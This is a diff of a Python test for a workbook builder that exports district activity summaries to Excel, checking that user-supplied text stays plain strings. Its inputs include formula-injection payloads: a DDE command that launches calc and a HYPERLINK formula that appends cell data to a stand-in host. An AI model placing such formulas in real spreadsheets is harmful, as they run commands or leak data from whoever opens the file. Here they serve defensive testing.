@@ -22,7 +22,9 @@ from PIL import Image
 
 from chuangcheng import limits, output
 from chuangcheng.check.validate import validate_paths
+from chuangcheng.check.verdicts import FileResult, UnitVerdict, Verdicts
 from chuangcheng.district.batch import UnitSummary
+from chuangcheng.district.indicators import Names
 from chuangcheng.district.workbook import build_workbook
 from chuangcheng.errors import InputError, OutputError
 from chuangcheng.load.layout import Layout
@@ -399,18 +401,19 @@ def test_workbook_cells_from_user_text_are_strings() -> None:
     formula = '=HYPERLINK("http://x"&A2,"看")'
     unit = UnitSummary(file="=1+1", name="=cmd|' /C calc'!A0", type="社\x0b\ufffe\ud800区",
                        period=("2026-01-01", "2026-06-30"), activities=1, participants=[], volunteers=[],
-                       amounts=[(formula, "3", "条", ""), ("项\x02目", "1", "个", "")], highlights=[], problems=[],
-                       outputs=[])
-    data = build_workbook([unit], "=江城区\x01\ud800")
+                       amounts=[(formula, "3", "条", ""), ("项\x02目", "1", "个", "")], categories=["宣传发动"] * 2,
+                       highlights=[], problems=[], outputs=[])
+    verdicts = Verdicts([UnitVerdict(unit.name, "通过", [FileResult(unit.file, unit=unit.name)])], 0)
+    data = build_workbook([unit], verdicts, Names(), "=江城区\x01\ud800")
     package = zipfile.ZipFile(io.BytesIO(data))
     for name in package.namelist():
         if name.endswith((".xml", ".rels")):
             etree.fromstring(package.read(name))  # every part well-formed
     sheet = package.read("xl/worksheets/sheet1.xml").decode()
     formulas = re.findall(r"<f>(.*?)</f>", sheet)
-    assert formulas and all(f.startswith("SUM(") for f in formulas)  # only our totals
+    assert formulas and all(f.startswith("SUBTOTAL(9,") for f in formulas)  # only our totals
     strings = [t.text for t in etree.fromstring(package.read("xl/sharedStrings.xml")).iter(f"{{{SML}}}t")]
-    assert f"{formula}（条）" in strings and "=cmd|' /C calc'!A0" in strings and "=1+1" in strings
+    assert f"{formula}（条）" in strings and "=cmd|' /C calc'!A0" in strings
     assert "社区" in strings and "项目（个）" in strings
     assert [Decimal(v) for v in re.findall(r"<v>([\d.]+)</v>", sheet)[-2:]] == [3, 1]  # the totals
 
